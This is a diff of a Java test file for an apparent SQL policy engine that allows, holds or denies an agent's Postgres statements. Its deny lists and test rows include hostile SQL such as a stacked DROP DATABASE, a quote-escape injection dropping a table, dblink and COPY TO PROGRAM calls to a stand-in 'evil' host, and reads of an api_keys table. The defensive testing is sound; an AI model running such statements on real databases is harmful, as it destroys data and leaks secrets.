@@ -5,13 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.warden.core.identity.Identity;
 import dev.warden.core.policy.Decision;
 import dev.warden.core.policy.DeclarativePolicyEngine;
-import dev.warden.core.policy.Limits;
 import dev.warden.core.policy.Policy;
-import dev.warden.core.policy.Policy.Grant;
-import dev.warden.core.policy.Policy.Rule;
-import dev.warden.core.sql.StatementClass;
-import java.time.Duration;
-import java.util.List;
+import dev.warden.core.policy.PolicyParser;
 import java.util.Map;
 import java.util.Set;
 import java.util.stream.Stream;
@@ -20,94 +15,14 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 
 /**
- * Parsed statements against the demo's sample agent policy (DESIGN.md), table-driven: the decision
- * and the rule that made it. Default deny; deny beats hold beats allow, per part.
+ * Parsed statements against the sample policy that ships in the jar (DESIGN.md), table-driven: the
+ * decision and the rule that made it. Default deny; deny beats hold beats allow, per part.
  */
 class PolicyDecisionTest {
   static final PostgresAnalyzer ANALYZER = new PostgresAnalyzer(PgQuery.load());
 
-  static Rule rule(
-      String id,
-      Set<StatementClass> classes,
-      Set<String> verbs,
-      List<String> objects,
-      List<String> functions) {
-    return new Rule(id, classes, verbs, objects, functions, null, Set.of(), null);
-  }
-
-  static final Policy SAMPLE =
-      new Policy(
-          List.of(
-              new Grant(
-                  "agent-on-shop",
-                  Set.of("agent"),
-                  Set.of("shop"),
-                  List.of(
-                      rule(
-                          "agent.read-write",
-                          Set.of(StatementClass.READ, StatementClass.WRITE),
-                          Set.of("SELECT", "INSERT", "UPDATE"),
-                          List.of("public.*", "billing.*"),
-                          List.of()),
-                      rule(
-                          "agent.transactions",
-                          Set.of(StatementClass.TRANSACTION),
-                          Set.of(),
-                          List.of(),
-                          List.of())),
-                  List.of(
-                      new Rule(
-                          "agent.hold-delete-ddl",
-                          Set.of(StatementClass.DDL),
-                          Set.of(),
-                          List.of(),
-                          List.of(),
-                          "schema changes need a DBA's approval",
-                          Set.of("dba"),
-                          Duration.ofMinutes(15)),
-                      new Rule(
-                          "agent.hold-delete",
-                          Set.of(),
-                          Set.of("DELETE"),
-                          List.of(),
-                          List.of(),
-                          null,
-                          Set.of("dba"),
-                          Duration.ofMinutes(15))),
-                  List.of(
-                      rule(
-                          "deny.destructive",
-                          Set.of(),
-                          Set.of(
-                              "DROP DATABASE",
-                              "DROP SCHEMA",
-                              "TRUNCATE",
-                              "ALTER SYSTEM",
-                              "GRANT*",
-                              "REVOKE*",
-                              "CREATE EXTENSION"),
-                          List.of(),
-                          List.of()),
-                      rule(
-                          "deny.role-switch",
-                          Set.of(StatementClass.DCL),
-                          Set.of(),
-                          List.of(),
-                          List.of()),
-                      rule(
-                          "deny.server-files",
-                          Set.of(),
-                          Set.of(),
-                          List.of(),
-                          List.of(
-                              "pg_read_file",
-                              "pg_read_binary_file",
-                              "pg_ls_dir",
-                              "lo_import",
-                              "lo_export",
-                              "dblink*")),
-                      rule("deny.internal", Set.of(), Set.of(), List.of("internal.*"), List.of())),
-                  new Limits(1000, 0))));
+  /** The sample policy that ships in the jar (DESIGN.md's agent and dba policy). */
+  static final Policy SAMPLE = new PolicyParser().sample();
 
   static final DeclarativePolicyEngine ENGINE = new DeclarativePolicyEngine(SAMPLE);
   static final Identity AGENT =
@@ -139,7 +54,7 @@ class PolicyDecisionTest {
             "WITH n AS (INSERT INTO public.orders (id) VALUES (2) RETURNING id) SELECT * FROM n",
             "Allow",
             "agent.read-write"),
-        row("CREATE TABLE public.t (id int)", "Hold", "agent.hold-delete-ddl"),
+        row("CREATE TABLE public.t (id int)", "Hold", "agent.hold-ddl"),
         row("DROP SCHEMA billing CASCADE", "Deny", "deny.destructive"),
         row("TRUNCATE public.orders", "Deny", "deny.destructive"),
         row("ALTER SYSTEM SET log_statement = 'none'", "Deny", "deny.destructive"),
@@ -149,7 +64,7 @@ class PolicyDecisionTest {
         row("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "Deny", "deny.server-files"),
         row("ROLLBACK; DROP DATABASE shop", "Deny", "deny.destructive"),
         row("SELECT 1; SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
-        row("SELECT 'a\\'; DROP TABLE public.customers; --'", "Hold", "agent.hold-delete-ddl"),
+        row("SELECT 'a\\'; DROP TABLE public.customers; --'", "Hold", "agent.hold-ddl"),
         row("SELECT * FROM customers", "Deny", "default-deny"),
         row("SELEC 1", "Deny", "default-deny"),
         row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "default-deny"),
